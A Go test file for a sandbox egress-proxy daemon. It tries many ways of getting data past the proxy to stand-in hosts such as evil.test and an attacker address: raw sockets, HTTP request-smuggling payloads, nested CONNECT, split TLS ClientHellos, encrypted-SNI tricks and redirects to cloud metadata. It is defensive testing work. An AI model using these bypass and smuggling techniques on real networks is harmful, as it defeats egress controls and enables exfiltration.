package daemon

import (
	"bytes"
	"crypto/ecdh"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// packet tries to send past the proxy what it would have carried.
func packet(name, network, address, seen string) attempt {
	return attempt{name: name, fails: true, direct: seen, do: func(in *inside) told {
		c := in.to2(network, address)
		must(c.SetDeadline(time.Now().Add(200 * time.Millisecond)))
		_, err := io.WriteString(c, in.mark)
		must(err)
		b := make([]byte, 2048)
		n, err := c.Read(b)
		must(err)
		return told{Text: string(b[:n])}
	}}
}

// bySocket sends a packet by a socket of another kind.
func bySocket(name, seen string, family, kind, protocol int) attempt {
	return attempt{name: name, fails: true, direct: seen, rights: kind == unix.SOCK_RAW, do: func(in *inside) told {
		fd, err := unix.Socket(family, kind|unix.SOCK_CLOEXEC, protocol)
		must(err)
		defer unix.Close(fd)
		at := &unix.SockaddrInet4{Port: 443}
		copy(at.Addr[:], net.ParseIP(attackerAddress).To4())
		echo := []byte{8, 0, 0, 0, 0, 1, 0, 1}
		echo = append(echo, in.mark...)
		binary.BigEndian.PutUint16(echo[2:], checksum(echo))
		if kind == unix.SOCK_STREAM {
			must(unix.Connect(fd, at))
		}
		must(unix.Sendto(fd, echo, 0, at))
		return told{Text: "it was sent"}
	}}
}

// checksum is that of ICMP.
func checksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	if len(b)%2 == 1 {
		sum += uint32(b[len(b)-1]) << 8
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}

func otherProtocols() []attempt {
	at := func(port string) string { return net.JoinHostPort(attackerAddress, port) }
	return []attempt{
		twin("egress/good.test", "and not told of another protocol", func(in *inside) told {
			got := in.say(in.straight("good.test:443", "good.test"), in.get("good.test"))
			if got.Other != "" {
				return told{Err: "it is told of " + got.Other}
			}
			return got
		}),
		packet("QUIC", "udp", at("443"), "udp "+at("443")),
		packet("QUIC to a listed host", "udp", goodAddress+":443", "udp "+goodAddress+":443"),
		packet("UDP", "udp", at("123"), "udp "+at("123")),
		packet("UDP to the machine's own", "udp", "127.0.0.1:5353", "udp 127.0.0.1:5353"),
		packet("multicast", "udp", "224.0.0.251:5353", ""),
		packet("UDP over IPv6", "udp", "[2606:4700::66]:443", "udp [2606:4700::66]:443"),
		packet("TCP over IPv6", "tcp", "[2606:4700::66]:443", "tcp [2606:4700::66]:443"),
		bySocket("ping", "ip 1 "+attackerAddress, unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP),
		bySocket("raw ICMP", "ip 1 "+attackerAddress, unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP),
		bySocket("another protocol", "ip 253 "+attackerAddress, unix.AF_INET, unix.SOCK_RAW, 253),
		bySocket("SCTP", "", unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_SCTP),
	}
}

func oddPorts() []attempt {
	out := []attempt{byTunnel()}
	for _, port := range []string{"22", "25", "6379", "7412", "8443"} {
		out = append(out, refusedBy(403, "egress/good.test"+blockedEntry, "CONNECT to port "+port, func(in *inside) told { return in.throughTo("good.test:" + port) }),
			attempt{name: "port " + port, status: 403, entries: []string{"egress/evil.test" + blockedEntry}, direct: "tcp " + attackerAddress + ":" + port, do: func(in *inside) told {
				return in.say(in.to(attackerAddress+":"+port), in.get("evil.test:"+port))
			}},
			refusedBy(400, "egress/unknown"+malformedEntry, "another protocol at port "+port, func(in *inside) told {
				return in.say(in.to(attackerAddress+":"+port), "EHLO "+in.mark+"\r\n\r\n")
			}))
	}
	for to, row := range map[string]string{"127.0.0.1:7412": "127.0.0.1", "localhost:7412": "localhost", "[::1]:7412": "::1", "0.0.0.0:7412": "0.0.0.0", "127.0.0.1:5432": "127.0.0.1"} {
		out = append(out, refusedBy(403, "egress/"+row+blockedEntry, "CONNECT to "+to, func(in *inside) told { return in.throughTo(to) }))
	}
	nested := "CONNECT other.test:443 HTTP/1.1\r\nHost: other.test:443\r\n\r\n"
	return append(out,
		refusedBy(400, "egress/good.test"+malformedEntry, "CONNECT in a tunnel", func(in *inside) told { return in.say(in.connect("good.test:443"), nested+in.get("other.test")) }),
		refusedBy(400, "egress/good.test"+malformedEntry, "CONNECT in TLS", func(in *inside) told {
			return in.say(in.tunnel("good.test:443", "good.test"), nested+in.get("other.test"))
		}),
		refusedBy(400, "egress/unknown"+malformedEntry, "CONNECT where no proxy is", func(in *inside) told { return in.say(in.to("plain.test:80"), nested+in.get("other.test")) }),
		refusedBy(400, "egress/good.test"+malformedEntry, "CONNECT over HTTP/2", func(in *inside) told {
			return in.viaHTTP2(in.tunnel("good.test:443", "good.test", "h2"), [2]string{":method", "CONNECT"}, [2]string{":authority", "other.test:443"})
		}),
		refusedBy(403, "egress/evil.test"+blockedEntry, "relayed by another server inside", func(in *inside) told {
			l, err := net.Listen("tcp", "127.0.0.1:0")
			must(err)
			defer l.Close()
			go func() {
				c, err := l.Accept()
				if err != nil {
					return
				}
				to, err := net.Dial("tcp", "127.0.0.1:7412")
				if err != nil {
					return
				}
				go io.Copy(to, c)
				io.Copy(c, to)
			}()
			return in.say(in.to(l.Addr().String()), "GET http://evil.test/"+in.mark+" HTTP/1.1\r\nHost: evil.test\r\n\r\n")
		}))
}

func smuggling() []attempt {
	const host = "good.test"
	inner := func(in *inside) string { return "GET /" + in.mark + " HTTP/1.1\r\nHost: " + host + "\r\n\r\n" }
	// Each stands before a request with the mark, which no reading may bring out.
	post := func(fields, body string) string {
		return "POST / HTTP/1.1\r\nHost: " + host + "\r\n" + fields + "\r\n" + body
	}
	var out []attempt
	for _, c := range []struct{ name, text string }{
		{"TE and CL", post("Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", "0\r\n\r\n")},
		{"CL and TE", post("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n")},
		{"two lengths", post("Content-Length: 0\r\nContent-Length: 4\r\n", "abcd")},
		{"two equal lengths", post("Content-Length: 4\r\nContent-Length: 4\r\n", "abcd")},
		{"a list of lengths", post("Content-Length: 4, 4\r\n", "abcd")},
		{"a signed length", post("Content-Length: +4\r\n", "abcd")},
		{"a length beyond 63 bits", post("Content-Length: 9999999999999999999999\r\n", "abcd")},
		{"bare LF between fields", "GET / HTTP/1.1\r\nHost: " + host + "\nX: y\r\n\r\n"},
		{"bare LF after the line", "GET / HTTP/1.1\nHost: " + host + "\r\n\r\n"},
		{"bare CR", "GET / HTTP/1.1\r\nHost: " + host + "\r\nX: a\rb\r\n\r\n"},
		{"NUL", "GET / HTTP/1.1\r\nHost: " + host + "\r\nX: a\x00b\r\n\r\n"},
		{"obs-fold", "GET / HTTP/1.1\r\nHost: " + host + "\r\nX: a\r\n b\r\n\r\n"},
		{"space before the colon", post("Content-Length : 4\r\n", "abcd")},
		{"xchunked", post("Transfer-Encoding: xchunked\r\n", "0\r\n\r\n")},
		{"chunked twice", post("Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n")},
		{"gzip, chunked", post("Transfer-Encoding: gzip, chunked\r\n", "0\r\n\r\n")},
		{"identity", post("Transfer-Encoding: identity\r\n", "0\r\n\r\n")},
		{"bare LF after a chunk's size", post("Transfer-Encoding: chunked\r\n", "4\nabcd\r\n0\r\n\r\n")},
		{"a chunk that is longer", post("Transfer-Encoding: chunked\r\n", "4\r\nabcde\r\n0\r\n\r\n")},
		{"a chunk's extension", post("Transfer-Encoding: chunked\r\n", "4;x=\r\nabcd\r\n0\r\n\r\n")},
		{"a chunk's size beyond 32 bits", post("Transfer-Encoding: chunked\r\n", "100000004\r\nabcd\r\n0\r\n\r\n")},
		{"a trailer", post("Transfer-Encoding: chunked\r\n", "0\r\nX-Late: y\r\n\r\n")},
		{"another expectation", post("Expect: 200-ok\r\nContent-Length: 1\r\n", "a")},
		{"h2c", "GET / HTTP/1.1\r\nHost: " + host + "\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"},
		{"HTTP/2 without ALPN", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"},
		{"two Hosts", "GET / HTTP/1.1\r\nHost: " + host + "\r\nHost: other.test\r\n\r\n"},
		{"two spaces", "GET  / HTTP/1.1\r\nHost: " + host + "\r\n\r\n"},
		{"HTTP/0.9", "GET /\r\n\r\n"},
		{"TE in HTTP/1.0", "POST / HTTP/1.0\r\nHost: " + host + "\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"},
	} {
		out = append(out, refusedBy(400, "egress/good.test"+malformedEntry, c.name, func(in *inside) told {
			return in.say(in.tunnel("good.test:443", host), c.text+inner(in))
		}))
	}
	usual := func(path string) [][2]string {
		return [][2]string{{":method", "GET"}, {":scheme", "https"}, {":path", path}, {":authority", host}}
	}
	// Some of them end the connection before there is a request to record.
	for name, more := range map[string][2]string{
		"two authorities": {":authority", "other.test"}, "two paths": {":path", "/2"}, "an unknown pseudo-header": {":proto", "x"},
		"a CR LF in a value": {"x", "a\r\nhost: evil.test"}, "a connection field": {"connection", "upgrade"}, "a transfer-encoding": {"transfer-encoding", "chunked"},
	} {
		out = append(out, attempt{name: "HTTP/2: " + name, status: anyRefusal, do: func(in *inside) told {
			return in.viaHTTP2(in.tunnel("good.test:443", host, "h2"), append(usual("/"+in.mark), more)...)
		}})
	}
	out = append(out, twin("egress/good.test", "HTTP/2", func(in *inside) told {
		return in.viaHTTP2(in.tunnel("good.test:443", host, "h2"), usual("/"+in.mark)...)
	}), attempt{name: "HTTP/2: a CR LF in the path", status: anyRefusal, do: func(in *inside) told {
		return in.viaHTTP2(in.tunnel("good.test:443", host, "h2"), usual("/ HTTP/1.1\r\nHost: good.test\r\n\r\nGET /"+in.mark)...)
	}})
	for name, fields := range map[string][2]string{
		"a length": {"Content-Length: 26\r\n", "a body, and then it is end"},
		"chunks":   {"Transfer-Encoding: chunked\r\n", "4\r\nabcd\r\n6\r\nefghij\r\n0\r\n\r\n"},
	} {
		out = append(out, twin("egress/good.test", name, func(in *inside) told {
			return in.say(in.tunnel("good.test:443", host), strings.Replace(post(fields[0], fields[1]), "POST /", "POST /"+in.mark, 1))
		}))
	}
	return out
}

// inRecords writes the first handshake record again as many of size bytes each.
type inRecords struct {
	net.Conn
	size int
	done bool
}

func (s *inRecords) Write(p []byte) (int, error) {
	if s.done || p[0] != 22 {
		return s.Conn.Write(p)
	}
	s.done = true
	var out bytes.Buffer
	for rest := p[5:]; len(rest) > 0; {
		n := min(s.size, len(rest))
		out.Write(p[:3])
		binary.Write(&out, binary.BigEndian, uint16(n))
		out.Write(rest[:n])
		rest = rest[n:]
	}
	_, err := s.Conn.Write(out.Bytes())
	return len(p), err
}

// slowly writes in pieces, so that a message comes in many segments.
type slowly struct {
	net.Conn
	size int
}

func (s slowly) Write(p []byte) (int, error) {
	for n := 0; n < len(p); n += s.size {
		if _, err := s.Conn.Write(p[n:min(len(p), n+s.size)]); err != nil {
			return n, err
		}
		time.Sleep(time.Millisecond)
	}
	return len(p), nil
}

// hidden are the ECH keys of a made-up server with that public name.
func hidden(public string) []byte {
	key, err := ecdh.X25519().GenerateKey(rand.Reader)
	must(err)
	with := func(b []byte) []byte { return append(binary.BigEndian.AppendUint16(nil, uint16(len(b))), b...) }
	c := []byte{7, 0, 0x20}                         // config id, DHKEM(X25519)
	c = append(c, with(key.PublicKey().Bytes())...) // public key
	c = append(c, with([]byte{0, 1, 0, 1})...)      // HKDF-SHA256, AES-128-GCM
	c = append(c, 32, byte(len(public)))            // longest name, public name
	c = append(append(c, public...), 0, 0)          // no extensions
	return with(append([]byte{0xfe, 0x0d}, with(c)...))
}

func hellos() []attempt {
	long := []string{"http/1.1"} // a ClientHello of more than 4 KB
	for i := range 60 {
		long = append(long, fmt.Sprintf("%0100d", i))
	}
	blind := func(name string) func(*inside) told {
		return func(in *inside) told {
			s := tls.Client(in.connect("blind.test:443"), &tls.Config{ServerName: name, InsecureSkipVerify: true})
			return in.say(s, in.get(name))
		}
	}
	nameless := func(in *inside, c net.Conn) told {
		return in.say(tls.Client(c, &tls.Config{InsecureSkipVerify: true}), in.get("good.test"))
	}
	ech := func(to string) func(*inside) told {
		return func(in *inside) told {
			s := tls.Client(in.connect(to+":443"), &tls.Config{ServerName: "evil.test", InsecureSkipVerify: true, MinVersion: tls.VersionTLS13, EncryptedClientHelloConfigList: hidden(to)})
			return in.say(s, in.get("evil.test"))
		}
	}
	pieces := func(wrap func(net.Conn) net.Conn, name string) func(*inside) told {
		return func(in *inside) told {
			return in.say(in.secure(wrap(in.to("good.test:443")), name, long...), in.get(name))
		}
	}
	segments := func(c net.Conn) net.Conn { return slowly{c, 700} }
	records := func(c net.Conn) net.Conn { return &inRecords{Conn: c, size: 40} }
	return []attempt{
		{name: "no name", entries: []string{"egress/unknown" + misdirectedEntry}, do: func(in *inside) told { return nameless(in, in.to("good.test:443")) }},
		{name: "no name in a tunnel", entries: []string{"egress/good.test" + misdirectedEntry}, do: func(in *inside) told { return nameless(in, in.connect("good.test:443")) }},
		{name: "no ClientHello", entries: []string{"egress/unknown" + malformedEntry}, do: func(in *inside) told {
			return in.say(in.to("good.test:443"), "\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00"+in.get("good.test"))
		}},
		{name: "an encrypted name where nobody looks inside", entries: []string{"egress/blind.test" + misdirectedEntry}, do: ech("blind.test")},
		{name: "an encrypted name", fails: true, do: ech("good.test")}, // the client is told that it was not read, and asks nothing
		refusedBy(421, "egress/blind.test"+misdirectedEntry, "another name where nobody looks inside", blind("other.test")),
		refusedBy(403, "egress/blind.test"+blockedEntry, "no TLS where nobody looks inside", func(in *inside) told {
			return in.say(in.connect("blind.test:443"), in.get("blind.test:443"))
		}),
		twin("egress/blind.test", "the name where nobody looks inside", blind("blind.test")),
		refusedBy(403, "egress/evil.test"+blockedEntry, "in segments", pieces(segments, "evil.test")),
		refusedBy(403, "egress/evil.test"+blockedEntry, "in records", pieces(records, "evil.test")),
		twin("egress/good.test", "in segments", pieces(segments, "good.test")),
		twin("egress/good.test", "in records", pieces(records, "good.test")),
	}
}

func plainHTTP() []attempt {
	at := func(address, host string) func(*inside) told {
		return func(in *inside) told { return in.say(in.to(address), in.get(host)) }
	}
	return []attempt{
		twin("egress/plain.test", "plain", at("plain.test:80", "plain.test")),
		refusedBy(403, "egress/evil.test"+blockedEntry, "another host", at("evil.test:80", "evil.test")),
		refusedBy(403, "egress/good.test"+blockedEntry, "a host only with TLS", at("good.test:80", "good.test")),
		refusedBy(403, "egress/evil.test"+blockedEntry, "the listed address, another's name", at(goodAddress+":80", "evil.test")),
		refusedBy(403, "egress/good.test"+blockedEntry, "at the port of TLS", at("good.test:443", "good.test:443")),
		refusedBy(421, "egress/plain.test"+misdirectedEntry, "another host in a tunnel", func(in *inside) told { return in.say(in.connect("plain.test:80"), in.get("evil.test")) }),
		refusedBy(400, "egress/unknown"+malformedEntry, "FTP", func(in *inside) told {
			return in.say(in.to(attackerAddress+":21"), "USER "+in.mark+"\r\nPASS x\r\n\r\n")
		}),
		refusedBy(400, "egress/unknown"+malformedEntry, "FTP by the proxy", func(in *inside) told {
			return in.say(in.proxy(), "GET ftp://plain.test/"+in.mark+" HTTP/1.1\r\nHost: plain.test\r\n\r\n")
		}),
		refusedBy(400, "egress/unknown"+malformedEntry, "gopher by the proxy", func(in *inside) told {
			return in.say(in.proxy(), "GET gopher://plain.test/"+in.mark+" HTTP/1.1\r\nHost: plain.test\r\n\r\n")
		}),
	}
}

// client is an ordinary one, which follows redirects and heeds the variables.
func (in *inside) client(variables bool) *http.Client {
	t := http.DefaultTransport.(*http.Transport).Clone()
	t.DisableKeepAlives = true
	if !variables {
		t.Proxy = nil
	}
	return &http.Client{Transport: t, Timeout: 15 * time.Second}
}

func (in *inside) fetch(variables bool, to string) told {
	r, err := in.client(variables).Get(to)
	must(err)
	defer r.Body.Close()
	b, _ := io.ReadAll(r.Body)
	return told{Status: r.StatusCode, Text: string(b)}
}

func redirects() []attempt {
	by := func(variables bool, to string) func(*inside) told {
		return func(in *inside) told {
			return in.fetch(variables, "https://good.test/redirect?to="+url.QueryEscape(strings.Replace(to, "MARK", in.mark, 1)))
		}
	}
	var out []attempt
	for _, variables := range []bool{true, false} {
		how := map[bool]string{true: " by the proxy", false: " past the variables"}[variables]
		out = append(out,
			attempt{name: "to a host that is not listed" + how, status: 403, entries: []string{"egress/good.test", "egress/evil.test" + blockedEntry}, do: by(variables, "https://evil.test/"), after: "GET /redirect"},
			attempt{name: "to metadata" + how, status: 403, entries: []string{"egress/good.test", "egress/169.254.169.254" + blockedEntry}, do: by(variables, "http://169.254.169.254/latest/"), after: "GET /redirect"},
			attempt{name: "allowed: to another listed host" + how, status: 200, arrives: true, entries: []string{"egress/good.test", "egress/other.test"}, do: by(variables, "https://other.test/MARK")})
	}
	return out
}

func pastTheVariables() []attempt {
	return []attempt{
		// First of all: later some are its own.
		{name: "descriptors that were left open", text: "none of them is a socket", do: func(in *inside) told {
			for fd := 0; fd < 1024; fd++ {
				if kind, err := unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_DOMAIN); err == nil {
					return told{Text: fmt.Sprintf("descriptor %d is a socket of family %d", fd, kind)}
				}
			}
			return told{Text: "none of them is a socket"}
		}},
		twin("egress/good.test", "by the variables", func(in *inside) told { return in.fetch(true, "https://good.test/"+in.mark) }),
		twin("egress/good.test", "past them", func(in *inside) told { return in.fetch(false, "https://good.test/"+in.mark) }),
		refusedBy(403, "egress/evil.test"+blockedEntry, "past them to another", func(in *inside) told { return in.fetch(false, "https://evil.test/"+in.mark) }),
		refusedBy(403, "egress/evil.test"+blockedEntry, "with NO_PROXY", func(in *inside) told {
			must(os.Setenv("NO_PROXY", "*"))
			return in.fetch(true, "http://evil.test/"+in.mark)
		}),
		refusedBy(403, "egress/"+attackerAddress+blockedEntry, "an address", func(in *inside) told { return in.fetch(false, "http://"+attackerAddress+"/"+in.mark) }),
		{name: "a server of the machine", fails: true, do: func(in *inside) told { return in.say(in.to("127.0.0.1:5432"), in.get("localhost")) }, direct: "tcp 127.0.0.1:5432"},
		{name: "a server of the machine by IPv6", fails: true, do: func(in *inside) told { return in.say(in.to("[::1]:5432"), in.get("localhost")) }, direct: "tcp [::1]:5432"},
		{name: "an abstract socket of the machine", fails: true, do: func(in *inside) told { return in.say(in.to2("unix", "@holdfast-world"), in.get("localhost")) }, direct: "@holdfast-world"},
		bySocket("a packet socket", "", unix.AF_PACKET, unix.SOCK_RAW, 0x300),
		bySocket("a raw socket", "", unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_TCP),
	}
}
